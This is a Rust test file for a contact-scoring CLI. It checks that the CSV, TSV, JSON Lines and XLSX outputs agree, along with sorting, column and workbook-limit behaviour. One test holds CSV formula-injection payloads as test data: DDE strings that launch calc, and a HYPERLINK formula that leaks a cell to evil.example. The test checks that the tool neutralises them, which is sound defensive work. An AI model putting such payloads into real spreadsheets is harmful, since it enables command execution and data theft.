//! `--format csv|tsv|jsonl|xlsx`, `--sort`, `--columns`, `--no-reasons`, `--bom`: each format
//! read back by an independent reader (tests/python/read_output.py: Python's csv and json,
//! openpyxl) gives the contacts, scores, tiers and queues of the CSV output.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::util::Env;

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

/// The shipped example with the shipped rules, in a scratch folder.
fn example() -> Env {
    let env = Env::new();
    env.write("rules.toml", std::fs::read(repo("rules.toml")).unwrap());
    env.write(
        "contacts.csv",
        std::fs::read(repo("examples/contacts.csv")).unwrap(),
    );
    env
}

/// `read_output.py FILE`: the file's sheets (one, "rows", for text formats) and cell types.
fn read(env: &Env, file: &str) -> Value {
    let out = Command::new("python3")
        .arg(repo("tests/python/read_output.py"))
        .arg(env.path(file))
        .output()
        .expect("python3 is needed for this test");
    assert!(
        out.status.success(),
        "read_output.py {file} (XLSX needs `pip install openpyxl`, which .ci/run does): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

fn rows<'a>(v: &'a Value, sheet: &str) -> &'a Vec<Value> {
    v["sheets"][sheet]
        .as_array()
        .unwrap_or_else(|| panic!("no sheet {sheet} in {}", v["sheets"]))
}

fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// id → (score, tier, queue) for the rows of one sheet, with the header's column names.
fn contacts(rows: &[Value]) -> Vec<(String, String, String, String)> {
    let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (id, score, tier, queue) = (at("Contact ID"), at("score"), at("tier"), at("queue"));
    rows[1..]
        .iter()
        .map(|r| {
            let r = r.as_array().unwrap();
            (
                text(&r[id]),
                text(&r[score]),
                text(&r[tier]),
                text(&r[queue]),
            )
        })
        .collect()
}

fn classify(env: &Env, args: &[&str]) {
    let out = env.classify(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn every_format_gives_the_contacts_scores_tiers_and_queues_of_csv() {
    let env = example();
    for file in ["out.csv", "out.tsv", "out.jsonl", "out.xlsx"] {
        // The format comes from the file's extension.
        classify(&env, &["contacts.csv", "-o", file]);
    }
    let csv = read(&env, "out.csv");
    let mut want = contacts(rows(&csv, "rows"));
    assert_eq!(want.len(), 240);
    want.sort();
    for file in ["out.tsv", "out.jsonl"] {
        let mut got = contacts(rows(&read(&env, file), "rows"));
        got.sort();
        assert_eq!(got, want, "{file}");
    }
    // JSON Lines: scores are numbers.
    let jsonl = std::fs::read_to_string(env.path("out.jsonl")).unwrap();
    for line in jsonl.lines() {
        let o: Value = serde_json::from_str(line).unwrap();
        assert!(o["score"].is_i64() && o["tier"].is_string() && o["reasons"].is_array());
    }

    // The workbook: a sheet per queue, sales first, then Summary; every contact once.
    let book = read(&env, "out.xlsx");
    let names: Vec<&str> = book["sheets"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    for sheet in ["sales", "marketing", "suppressed", "customers", "Summary"] {
        assert!(names.contains(&sheet), "{sheet} in {names:?}");
    }
    let mut got = Vec::new();
    for queue in ["sales", "marketing", "suppressed", "customers"] {
        let sheet = rows(&book, queue);
        let types = book["types"][queue].as_array().unwrap();
        let header: Vec<String> = sheet[0].as_array().unwrap().iter().map(text).collect();
        let score = header.iter().position(|h| h == "score").unwrap();
        let mut last = i64::MAX;
        for (r, row) in sheet.iter().enumerate().skip(1) {
            let kinds = types[r].as_array().unwrap();
            // Scores are numbers, highest first; no cell is ever a formula.
            assert_eq!(kinds[score], "n", "{queue} row {r}");
            let s = row[score].as_i64().unwrap();
            assert!(s <= last, "{queue} is sorted by score");
            last = s;
            assert!(kinds.iter().all(|k| k != "f"), "{queue} row {r}: a formula");
        }
        assert_eq!(book["frozen"][queue], "A2", "{queue}: the header is frozen");
        assert!(book["filter"][queue].is_string(), "{queue}: an autofilter");
        got.extend(contacts(sheet));
    }
    got.sort();
    // Numbers read back by openpyxl as integers print the same as CSV's.
    assert_eq!(got, want, "the workbook's contacts");
    let summary: BTreeMap<String, String> = rows(&book, "Summary")[1..]
        .iter()
        .map(|r| (text(&r[0]), text(&r[1])))
        .collect();
    assert_eq!(summary["contacts"], "240");
    assert_eq!(summary["queue sales"], "37");
    assert_eq!(summary["as of"].len(), 10);
    assert_eq!(summary["rules sha256"].len(), 64);
}

/// The run's warnings are in the workbook's Summary sheet, as in summary.json: whoever opens
/// only the workbook of a quiet run sees them.
#[test]
fn the_workbook_summary_lists_the_runs_warnings() {
    let env = example();
    let csv = env.read("contacts.csv");
    env.write("short.csv", format!("{csv}999,x\n"));
    classify(&env, &["-q", "short.csv", "-o", "w.xlsx"]);
    let book = read(&env, "w.xlsx");
    let warnings: Vec<String> = rows(&book, "Summary")[1..]
        .iter()
        .filter(|r| text(&r[0]) == "warning")
        .map(|r| text(&r[1]))
        .collect();
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].contains("could not be read and was rejected"),
        "{warnings:?}"
    );
}

#[test]
fn jsonl_reasons_are_rules_with_points_then_caps_then_the_route() {
    let env = example();
    classify(
        &env,
        &["contacts.csv", "--format", "jsonl", "-o", "o.jsonl"],
    );
    let text = std::fs::read_to_string(env.path("o.jsonl")).unwrap();
    let mut kinds = BTreeMap::new();
    for line in text.lines() {
        let o: Value = serde_json::from_str(line).unwrap();
        let mut total = 0.0;
        for r in o["reasons"].as_array().unwrap() {
            let kind = if r.get("rule").is_some() {
                "rule"
            } else if r.get("capped_at").is_some() || r.get("floored_at").is_some() {
                "cap"
            } else {
                assert!(r["route"].is_string(), "{r}");
                "route"
            };
            *kinds.entry(kind).or_insert(0) += 1;
            total += r.get("points").and_then(Value::as_f64).unwrap_or(0.0);
        }
        // The points add up to the score (before rounding).
        assert!(
            (total - o["score"].as_f64().unwrap()).abs() <= 0.5,
            "{}: {total} against {}",
            o["Contact ID"],
            o["score"]
        );
    }
    assert!(
        kinds["rule"] > 0 && kinds["cap"] > 0 && kinds["route"] > 0,
        "{kinds:?}"
    );
}

/// A JSON reader keeps one value per key: a repeated header or an input `score` would lose
/// cells. Every cell gets a key of its own, and the run says which.
#[test]
fn jsonl_gives_every_cell_a_key_of_its_own() {
    let env = Env::standard();
    env.write("rules.toml", crate::util::DEMO_RULES);
    env.write(
        "dup.csv",
        "id,demo,note,note,score,queue,note_2\n1,yes,first,second,999,myq,third\n",
    );
    let out = env
        .classify(&["--format", "jsonl", "dup.csv"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let object: serde_json::Map<String, Value> = serde_json::from_slice(&out.stdout).unwrap();
    // (serde_json's map sorts its keys; a repeated key would leave fewer.)
    let keys: Vec<&str> = object.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "demo", "id", "note", "note_2", "note_3", "queue", "queue_2", "reasons", "score",
            "score_2", "tier"
        ]
    );
    for (key, cell) in [
        ("note", "first"),
        ("note_3", "second"),
        ("score_2", "999"),
        ("queue_2", "myq"),
        ("note_2", "third"),
    ] {
        assert_eq!(object[key], cell, "{key}");
    }
    assert_eq!(object["score"], 20);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(
            "the keys of a JSON object must differ: input column `note` gets the key `note_3`, \
             `score` gets the key `score_2`, `queue` gets the key `queue_2`"
        ),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn formula_payloads_are_text_in_a_workbook_escaped_in_tsv_and_exact_in_jsonl() {
    let payloads = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ];
    let env = Env::standard();
    let mut csv = String::from("id,email,Job Title,Company Size,demo,unsubscribed,sales_status\n");
    for (i, p) in payloads.iter().enumerate() {
        csv.push_str(&format!(
            "{},p{i}@acme.com,\"{}\",10,no,no,\n",
            i + 1,
            p.replace('"', "\"\"")
        ));
    }
    env.write("evil.csv", &csv);
    for file in ["o.xlsx", "o.tsv", "o.jsonl"] {
        classify(&env, &["evil.csv", "-o", file]);
    }
    let title = |rows: &[Value]| -> Vec<String> {
        let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
        let at = header.iter().position(|h| h == "Job Title").unwrap();
        let mut t: Vec<(String, String)> = rows[1..]
            .iter()
            .map(|r| (text(&r[0]), text(&r[at])))
            .collect();
        t.sort();
        t.into_iter().map(|(_, title)| title).collect()
    };
    let exact: Vec<String> = payloads.iter().map(|p| p.to_string()).collect();
    let escaped: Vec<String> = payloads.iter().map(|p| format!("'{p}")).collect();
    // A workbook: the payload exactly, as a string cell, never a formula.
    let book = read(&env, "o.xlsx");
    assert_eq!(title(rows(&book, "marketing")), exact);
    for row in book["types"]["marketing"].as_array().unwrap() {
        assert!(row.as_array().unwrap().iter().all(|t| t != "f"));
    }
    // TSV is for spreadsheets too: escaped like CSV.
    assert_eq!(title(rows(&read(&env, "o.tsv"), "rows")), escaped);
    // JSON Lines is for programs: as read.
    assert_eq!(title(rows(&read(&env, "o.jsonl"), "rows")), exact);
}

#[test]
fn sort_score_puts_the_highest_first_and_keeps_ties_in_input_order() {
    let env = example();
    classify(&env, &["contacts.csv", "-o", "plain.csv"]);
    classify(
        &env,
        &["contacts.csv", "--sort", "score", "-o", "sorted.csv"],
    );
    let plain = contacts(rows(&read(&env, "plain.csv"), "rows"));
    let sorted = contacts(rows(&read(&env, "sorted.csv"), "rows"));
    let mut want = plain.clone();
    // A stable sort: equal scores stay in input order.
    want.sort_by_key(|c| std::cmp::Reverse(c.1.parse::<i64>().unwrap()));
    assert_eq!(sorted, want);
    assert_ne!(sorted, plain, "the example is not already sorted");
}

#[test]
fn columns_chooses_input_columns_and_no_reasons_drops_the_reasons() {
    let env = example();
    classify(
        &env,
        &[
            "contacts.csv",
            "--columns",
            "Email,Contact ID",
            "--no-reasons",
            "-o",
            "o.csv",
        ],
    );
    let out = read(&env, "o.csv");
    let rows = rows(&out, "rows");
    let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
    assert_eq!(
        header,
        [
            "Email",
            "Contact ID",
            "score",
            "score_fit",
            "score_engagement",
            "tier",
            "queue"
        ]
    );
    assert_eq!(rows.len(), 241);
    assert!(text(&rows[1][0]).contains('@'));

    let out = env
        .classify(&["contacts.csv", "--columns", "Email,Shoe size"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(65));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("no column \"Shoe size\""), "{err}");
}

#[test]
fn bom_starts_csv_and_tsv_and_is_refused_for_other_formats() {
    let env = example();
    classify(&env, &["contacts.csv", "--bom", "-o", "o.csv"]);
    classify(
        &env,
        &["contacts.csv", "--bom", "--format", "tsv", "-o", "o.txt"],
    );
    for file in ["o.csv", "o.txt"] {
        let bytes = std::fs::read(env.path(file)).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBFContact ID"), "{file}");
    }
    assert!(std::fs::read(env.path("o.txt")).unwrap()[3..].contains(&b'\t'));
    let out = env
        .classify(&["contacts.csv", "--bom", "-o", "o.jsonl"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_file_name_promising_a_format_not_written_is_refused_unless_format_says() {
    // A CSV named leads.xls would fool Excel and whoever opens it.
    let env = example();
    for (file, hint) in [
        ("leads.xls", ".xlsx"),
        ("LEADS.ODS", ".xlsx"),
        ("leads.json", ".jsonl"),
    ] {
        let out = env
            .classify(&["contacts.csv", "-o", file])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{file}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(hint) && err.contains("--format"), "{err}");
        assert!(!env.path(file).exists(), "{file}");
    }
    classify(
        &env,
        &["contacts.csv", "--format", "csv", "-o", "leads.json"],
    );
    assert!(env.read("leads.json").starts_with("Contact ID,"));
}

#[test]
fn split_with_xlsx_writes_a_workbook_per_queue() {
    let env = example();
    std::fs::create_dir(env.path("out")).unwrap();
    classify(
        &env,
        &["contacts.csv", "--split", "out", "--format", "xlsx"],
    );
    let mut files = env.files();
    files.retain(|f| f.starts_with("out/") && f != "out/.leadsort.lock");
    assert_eq!(
        files,
        [
            "out/customers.xlsx",
            "out/marketing.xlsx",
            "out/rejected.csv",
            "out/sales.xlsx",
            "out/summary.json",
            "out/suppressed.xlsx"
        ]
    );
    let sales = read(&env, "out/sales.xlsx");
    assert_eq!(
        rows(&sales, "sales").len(),
        38,
        "37 contacts and the header"
    );
    assert_eq!(sales["sheets"].as_object().unwrap().len(), 1);
}

/// U+FEFF at the start of a row mid-file is text: the workbook keeps it as CSV does.
#[test]
fn a_workbook_keeps_a_cell_that_starts_with_u_feff() {
    let env = Env::standard();
    env.write(
        "bom.csv",
        "id,email,Job Title,Company Size,demo,unsubscribed,sales_status\n\
         1,a@acme.com,VP,10,no,no,\n\u{feff}2,b@acme.com,VP,10,no,no,\n",
    );
    classify(&env, &["bom.csv", "-o", "o.csv"]);
    classify(&env, &["bom.csv", "-o", "o.xlsx"]);
    assert!(env.read("o.csv").contains("\n\u{feff}2,"));
    let book = read(&env, "o.xlsx");
    let ids: Vec<String> = ["sales", "marketing"]
        .iter()
        .flat_map(|s| rows(&book, s).iter().skip(1).map(|r| text(&r[0])))
        .collect();
    assert!(ids.contains(&"\u{feff}2".to_string()), "{ids:?}");
}

/// In a workbook, an input cell a spreadsheet would show unchanged as a number is a number
/// (it sorts and sums); one it would change (a leading zero, a `+`, `1.50`) stays text.
#[test]
fn a_workbooks_plain_numbers_are_numbers_and_the_rest_text() {
    let env = Env::standard();
    env.write(
        "c.csv",
        "id,email,Job Title,Company Size,demo,unsubscribed,sales_status,zip,phone,rate\n\
         1,a@acme.com,VP,500,yes,no,,02134,+1 555 0100,1.50\n\
         2,b@acme.com,VP,2.5,yes,no,,12345,5550100,3\n",
    );
    classify(&env, &["c.csv", "-o", "o.xlsx"]);
    let book = read(&env, "o.xlsx");
    let sheet = rows(&book, "sales");
    let header: Vec<String> = sheet[0].as_array().unwrap().iter().map(text).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let kinds = &book["types"]["sales"];
    let id = |r: usize| text(&sheet[r][at("id")]);
    let row = |want: &str| (1..sheet.len()).find(|&r| id(r) == want).unwrap();
    let kind = |r: usize, c: &str| kinds[r][at(c)].as_str().unwrap().to_string();
    let (one, two) = (row("1"), row("2"));
    for (r, column, want) in [
        (one, "id", "n"),
        (one, "Company Size", "n"),
        (two, "Company Size", "n"),
        (one, "zip", "s"),
        (two, "zip", "n"),
        (one, "phone", "s"),
        (two, "phone", "n"),
        (one, "rate", "s"),
        (one, "email", "s"),
    ] {
        assert_eq!(kind(r, column), want, "row {r} {column}");
    }
    assert_eq!(text(&sheet[one][at("zip")]), "02134");
    assert_eq!(text(&sheet[two][at("Company Size")]), "2.5");
}

/// The warm tier's queue comes first in a workbook, whatever the rules call it.
#[test]
fn a_workbook_shows_the_sales_queue_first_under_its_own_name() {
    let env = Env::standard();
    env.write(
        "rules.toml",
        format!("{}\n[queues]\nwarm = \"sdr\"\n", crate::util::RULES),
    );
    classify(&env, &["contacts.csv", "-o", "o.xlsx"]);
    let book = read(&env, "o.xlsx");
    assert_eq!(book["order"][0], "sdr", "{}", book["order"]);
}

/// A workbook keeps its rejected rows in a sheet of their own, and the warning says where.
#[test]
fn a_workbooks_rejected_rows_are_in_its_rejected_sheet() {
    let env = Env::standard();
    env.write(
        "odd.csv",
        "id,email,Job Title,Company Size,demo,unsubscribed,sales_status\n\
         1,a@acme.com,VP,10,no,no,\n7,too,few\n",
    );
    let out = env.classify(&["odd.csv", "-o", "o.xlsx"]).output().unwrap();
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("(see the Rejected sheet of o.xlsx)"), "{err}");
    let book = read(&env, "o.xlsx");
    let rejected = rows(&book, "Rejected");
    assert_eq!(rejected.len(), 2, "a header and the one row: {rejected:?}");
    assert_eq!(text(&rejected[1][0]), "2");
}

/// A workbook records when it was created: the as-of date, so a run gives the same bytes
/// whenever it runs (zip entries carry no time of their own).
#[test]
fn a_workbook_is_created_on_the_as_of_date_and_is_the_same_bytes_every_run() {
    let env = example();
    classify(&env, &["contacts.csv", "-o", "a.xlsx"]);
    let core = Command::new("python3")
        .args([
            "-c",
            "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('docProps/core.xml').decode())",
        ])
        .arg(env.path("a.xlsx"))
        .output()
        .unwrap();
    let core = String::from_utf8_lossy(&core.stdout);
    for property in ["created", "modified"] {
        assert!(
            core.contains(&format!(
                "<dcterms:{property} xsi:type=\"dcterms:W3CDTF\">2026-11-27T00:00:00Z<"
            )),
            "{property}: {core}"
        );
    }
    classify(&env, &["contacts.csv", "-o", "b.xlsx"]);
    assert!(
        std::fs::read(env.path("a.xlsx")).unwrap() == std::fs::read(env.path("b.xlsx")).unwrap()
    );
}

#[test]
fn a_cell_too_long_for_excel_is_an_error_and_the_old_workbook_stays() {
    let env = Env::standard();
    let note = "x".repeat(40_000);
    env.write(
        "long.csv",
        format!(
            "id,email,Job Title,Company Size,demo,unsubscribed,sales_status,note\n\
             1,a@acme.com,VP,10,no,no,,short\n2,b@acme.com,VP,10,no,no,,{note}\n"
        ),
    );
    env.write("o.xlsx", "the old workbook");
    let out = env
        .classify(&["long.csv", "-o", "o.xlsx"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(65));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("long.csv: a contact's note has 40000 characters")
            && err.contains("32767")
            && err.contains("row 3 of sheet marketing of o.xlsx"),
        "{err}"
    );
    assert!(!err.contains("xxxxxxxx"), "no contact data in the message");
    assert_eq!(env.read("o.xlsx"), "the old workbook");
    // CSV has no such limit.
    classify(&env, &["long.csv", "-o", "o.csv"]);
}

#[test]
fn more_columns_than_a_sheet_holds_is_an_error_before_any_row() {
    // 16,381 input columns and leadsort's score, score_fit, tier, queue and reasons.
    let env = Env::standard();
    let extra: Vec<String> = (8..=16_381).map(|c| format!("c{c}")).collect();
    env.write(
        "wide.csv",
        format!(
            "id,email,Job Title,Company Size,demo,unsubscribed,sales_status,{}\n\
             1,a@acme.com,VP,10,no,no,,{}\n",
            extra.join(","),
            ",".repeat(extra.len() - 1)
        ),
    );
    env.write("o.xlsx", "the old workbook");
    let out = env
        .classify(&["wide.csv", "-o", "o.xlsx"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(65), "{err}");
    assert!(
        err.contains("the rows would have 16386 columns (16381 of the input's, 5 added)")
            && err.contains("at most 16384"),
        "{err}"
    );
    assert_eq!(env.read("o.xlsx"), "the old workbook");
    // Fewer columns fit.
    classify(&env, &["wide.csv", "--columns", "id,email", "-o", "o.xlsx"]);
}

/// Parse `text` as CSV with `delimiter`.
fn rows_with(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn output_delimiter_writes_the_same_cells_with_another_separator() {
    let env = example();
    let run = |args: &[&str]| {
        let out = env.classify(args).output().unwrap();
        crate::util::ok(&out)
    };
    let commas = rows_with(&run(&["contacts.csv"]), b',');
    // Semicolons: the reasons ("a +10; b +5") and notes with semicolons are quoted.
    let semicolons = run(&["--output-delimiter", ";", "contacts.csv"]);
    assert!(semicolons.lines().next().unwrap().contains(";score;"));
    assert_eq!(rows_with(&semicolons, b';'), commas);

    // `input`: a semicolon export comes back with semicolons (rows copied through).
    let text = std::fs::read_to_string(env.path("contacts.csv")).unwrap();
    let mut wtr = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(Vec::new());
    for row in rows_with(&text, b',') {
        wtr.write_record(&row).unwrap();
    }
    env.write("semi.csv", wtr.into_inner().unwrap());
    let back = run(&["-d", ";", "--output-delimiter", "input", "semi.csv"]);
    assert_eq!(rows_with(&back, b';'), commas);

    // Only CSV has a delimiter to choose.
    for format in ["tsv", "jsonl"] {
        let out = env
            .classify(&[
                "--format",
                format,
                "--output-delimiter",
                ";",
                "contacts.csv",
            ])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("--output-delimiter is for CSV"));
    }
}
